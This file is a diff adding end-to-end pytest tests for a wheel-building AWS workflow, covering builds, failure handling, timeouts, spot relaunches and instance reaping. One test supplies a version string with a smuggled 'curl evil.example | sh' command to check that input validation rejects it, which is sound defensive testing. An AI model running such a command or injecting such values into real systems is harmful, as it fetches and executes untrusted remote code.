@@ -1,0 +1,219 @@
+"""The workflow end to end: the shipped template and ASL in the embedded AWS, real builds on this host.
+
+Every test ends with no instance pending or running (the `stack` fixture asserts it).
+"""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from wheelfoundry_local import DeployedStack, EmbeddedAws
+
+from tests.workflow.conftest import (
+    extension_request,
+    launched_by,
+    run,
+    s3_json,
+    s3_keys,
+    source,
+    upload,
+)
+
+BROKEN_C = "this is not C;\n"
+SLOW_SETUP = (
+    "import time\ntime.sleep({seconds})\n" + (Path(__file__).parents[1] / "fixtures/tiny_ext/setup.py").read_text()
+)
+
+
+def wait_for(predicate: Any, timeout: float = 120, what: str = "") -> Any:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        value = predicate()
+        if value:
+            return value
+        time.sleep(0.2)
+    raise AssertionError(f"timed out waiting for {what or predicate}")
+
+
+def building(aws: EmbeddedAws) -> str:
+    """The instance whose Build command is running."""
+    runs = wait_for(
+        lambda: [r for r in aws.agent.runs() if r.status == "InProgress"] if aws.agent else [],
+        what="a running build command",
+    )
+    return str(runs[0].instance_id)
+
+
+def test_one_job_builds_publishes_and_indexes(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
+    result = run(aws, stack, extension_request(upload(aws, stack, source(tmp_path))))
+    assert result.succeeded, (result.error, result.cause)
+    assert result.output["status"] == "succeeded" and result.output["published"] == 1
+    run_id = result.output["run_id"]
+    (wheel,) = [k for k in s3_keys(aws, stack, "wheels/ci/wf-tiny-ext/") if k.endswith(".whl")]
+    assert "+pt213cpu-cp311-cp311-manylinux" in wheel
+    page = aws.client("s3").get_object(Bucket=stack.outputs["WheelBucketName"], Key="simple/ci/wf-tiny-ext/")
+    assert wheel.rsplit("/", 1)[1].replace("+", "%2B") in page["Body"].read().decode()
+    manifest = s3_json(aws, stack, f"runs/{run_id}/jobs/wf-tiny-ext-torch2.13.0-cpu-x86_64/manifest.json")
+    assert manifest["status"] == "succeeded" and manifest["wheels"][0]["sha256"]
+    report = s3_json(aws, stack, f"runs/{run_id}/report.json")
+    assert report["jobs"][0]["status"] == "succeeded"
+    (instance,) = launched_by(aws, result.arn)
+    assert instance["State"]["Name"] == "terminated"
+
+
+def test_hostile_request_is_rejected_before_any_instance_exists(aws: EmbeddedAws, stack: DeployedStack) -> None:
+    result = run(aws, stack, {"version": "2.5.1; curl evil.example | sh", "python": ["3.11"]})
+    assert result.status == "FAILED" and result.error == "RequestInvalid"
+    assert "version" in (result.cause or "")
+    assert aws.instances(states=("pending", "running", "terminated")) == []
+    assert s3_keys(aws, stack, "runs/") == []  # nothing was written either
+
+
+def test_a_failing_build_is_terminated_and_explained(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
+    uri = upload(aws, stack, source(tmp_path, {"src/core.c": BROKEN_C}))
+    result = run(aws, stack, extension_request(uri))
+    assert result.status == "FAILED" and result.error == "JobsFailed"
+    assert "wf-tiny-ext-torch2.13.0-cpu-x86_64: BuildFailed" in (result.cause or "")
+    (instance,) = launched_by(aws, result.arn)
+    assert instance["State"]["Name"] == "terminated"
+    run_id = result.arn.rsplit(":", 1)[1]
+    outcome = s3_json(aws, stack, f"runs/{run_id}/jobs/wf-tiny-ext-torch2.13.0-cpu-x86_64/result.json")
+    assert outcome["error"] == "BuildFailed" and "this is not C" in outcome["cause"]  # the log tail
+    assert f"runs/{run_id}/jobs/wf-tiny-ext-torch2.13.0-cpu-x86_64/build.log" in s3_keys(aws, stack, f"runs/{run_id}/")
+
+
+@pytest.mark.parametrize(
+    ("function", "error", "times", "expected"),
+    [
+        ("LaunchFunction", "LaunchFailed", 1, "LaunchFailed"),
+        ("AwaitAgentFunction", "InstanceLost", 1, "InstanceLost"),
+        ("CollectFunction", "ManifestInvalid", 1, "ManifestInvalid"),
+        ("TerminateFunction", "Boom", 5, "NoResult"),  # more failures than its retries: TerminateFailed
+        ("PublishIndexFunction", "Boom", 3, "JobsFailed"),
+        ("ReportFunction", "Boom", 1, "Boom"),
+        ("ValidateFunction", "Boom", 1, "Boom"),
+    ],
+)
+def test_an_error_at_each_task_state_leaves_no_instance_running(
+    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path, function: str, error: str, times: int, expected: str
+) -> None:
+    aws.faults.inject(function, error, times=times)
+    result = run(aws, stack, extension_request(upload(aws, stack, source(tmp_path))))
+    assert result.status == "FAILED", result
+    assert result.error == expected or expected in (result.cause or ""), (result.error, result.cause)
+    # A TerminateFailed iteration leaves its instance to the execution-status reaper.
+    wait_for(lambda: not aws.instances(), timeout=30, what="the reaper")
+
+
+def test_an_error_at_the_build_state_fails_the_token_and_terminates(
+    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
+) -> None:
+    # The command fails before the runner can call back (its bundle key names no object):
+    # the SSM status rule's Callback fails the task token.
+    uri = upload(aws, stack, source(tmp_path))
+    s3 = aws.client("s3")
+    bucket = stack.outputs["WheelBucketName"]
+    s3.put_object(
+        Bucket=bucket, Key="bundles/current.json", Body=b'{"key": "bundles/' + b"0" * 64 + b'.zip", "sha256": "0"}'
+    )
+    result = run(aws, stack, extension_request(uri))
+    assert result.status == "FAILED" and "BuildCommandFailed" in (result.cause or ""), result.cause
+    assert "ended Failed" in (result.cause or "")
+
+
+def test_a_retried_launch_does_not_start_a_second_instance(
+    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
+) -> None:
+    # RunInstances succeeds, then the invocation fails (a timeout after the side effect): the ASL retries.
+    aws.faults.inject("LaunchFunction", "Lambda.ServiceException", after=True)
+    result = run(aws, stack, extension_request(upload(aws, stack, source(tmp_path))))
+    assert result.succeeded, (result.error, result.cause)
+    launches = aws.invocations.of("LaunchFunction")
+    assert len(launches) == 2 and launches[1].result["reused"] is True
+    assert len(launched_by(aws, result.arn)) == 1
+
+
+def test_the_ssm_timeout_ends_the_build_and_the_instance(
+    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
+) -> None:
+    uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=120)}))
+    result = run(aws, stack, extension_request(uri, options={"max_hours": 0.01}))  # 36 s
+    assert result.status == "FAILED"
+    assert "BuildCommandFailed" in (result.cause or "") and "ended TimedOut" in (result.cause or "")
+
+
+class TestShortHeartbeat:
+    @pytest.fixture
+    def parameters(self) -> dict[str, Any]:
+        return {"BuildHeartbeatSeconds": "6"}
+
+    def test_a_silent_instance_times_out_on_its_heartbeat(
+        self, aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
+    ) -> None:
+        uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=120)}))
+        arn = aws.start_execution(stack.state_machine_arn, extension_request(uri))
+        instance = building(aws)
+        assert aws.agent is not None and aws.agent.freeze(instance)  # hung: no heartbeat, no callback
+        result = aws.wait_execution(arn, timeout=120)
+        assert result.status == "FAILED" and "States.HeartbeatTimeout" in (result.cause or "")
+        assert [i["State"]["Name"] for i in launched_by(aws, arn)] == ["terminated"]
+
+
+def test_an_aborted_execution_is_reaped(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
+    uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=120)}))
+    arn = aws.start_execution(stack.state_machine_arn, extension_request(uri))
+    instance = building(aws)
+    aws.client("stepfunctions").stop_execution(executionArn=arn, error="Cancelled", cause="by the test")
+    wait_for(lambda: not aws.instances(), timeout=30, what="the execution-status reaper")
+    assert aws.wait_execution(arn, timeout=10).status == "ABORTED"
+    reaped = [d for d in aws.events.deliveries() if d.event.get("detail", {}).get("status") == "ABORTED"]
+    assert reaped, "the ABORTED status event reached the reaper"
+    assert [i["InstanceId"] for i in launched_by(aws, arn)] == [instance]
+
+
+def test_a_spot_interruption_relaunches_on_demand(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
+    uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=8)}))
+    arn = aws.start_execution(stack.state_machine_arn, extension_request(uri))
+    spot = building(aws)
+    aws.events.spot_interruption(spot)
+    result = aws.wait_execution(arn, timeout=300)
+    assert result.succeeded, (result.error, result.cause)
+    instances = {i["Tags"]["wheelfoundry:market"]: i for i in launched_by(aws, arn)}
+    assert instances["spot"]["InstanceId"] == spot and instances["spot"]["State"]["Name"] == "terminated"
+    assert instances["ondemand"]["State"]["Name"] == "terminated"
+
+
+def test_keep_on_failure_keeps_the_instance_until_its_deadline(
+    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
+) -> None:
+    uri = upload(aws, stack, source(tmp_path, {"src/core.c": BROKEN_C}))
+    result = run(aws, stack, extension_request(uri, options={"keep_on_failure": True}))
+    assert result.status == "FAILED"
+    (kept,) = aws.instances()  # kept: the FAILED execution's reaper spares it
+    assert kept["Tags"]["wheelfoundry:kept"] == "true"
+    sweep = stack.rule_name("ReaperFunctionSweep")
+    aws.events.fire_rule(sweep)
+    assert aws.instances(), "not expired yet"
+    aws.client("ec2").create_tags(
+        Resources=[kept["InstanceId"]], Tags=[{"Key": "wheelfoundry:expires-at", "Value": "2000-01-01T00:00:00+00:00"}]
+    )
+    aws.events.fire_rule(sweep)
+    assert not aws.instances(), "the scheduled reaper ends it at its deadline"
+
+
+def test_the_nightly_schedule_starts_the_nightly_preset(aws: EmbeddedAws, stack: DeployedStack) -> None:
+    schedule = stack.schedule_name("NightlySchedule")
+    aws.events.fire_schedule(schedule)
+    validate = wait_for(lambda: aws.invocations.of("ValidateFunction"), what="Validate")[0]
+    assert validate.event["request"] == {"preset": "nightly"}
+    assert [j["id"] for j in validate.result["jobs"]] == [
+        "torchnightly-cpu-x86_64",
+        "torchnightly-cuda12.6-x86_64",
+        "torchnightly-cpu-aarch64",
+    ]
+    for execution in aws.client("stepfunctions").list_executions(stateMachineArn=stack.state_machine_arn)["executions"]:
+        aws.client("stepfunctions").stop_execution(executionArn=execution["executionArn"])
+    wait_for(lambda: not aws.instances(), timeout=60, what="the reaper after the abort")
